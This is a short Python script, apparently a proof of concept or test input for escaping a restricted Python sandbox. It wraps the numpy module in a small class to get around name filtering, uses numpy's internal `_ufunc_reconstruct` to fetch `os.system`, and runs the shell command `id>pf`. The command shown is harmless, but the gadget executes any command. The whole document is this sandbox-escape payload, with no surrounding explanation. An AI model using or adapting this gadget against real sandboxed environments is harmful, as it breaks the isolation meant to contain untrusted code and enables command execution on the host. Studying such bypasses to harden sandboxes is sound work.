class my_Box:

    def __init__(self, v):
        self.v = v

    def __getitem__(self, i):
        return self.v
import numpy as np
my_Box(np)[0].core._ufunc_reconstruct('os', 'system')('id>pf')
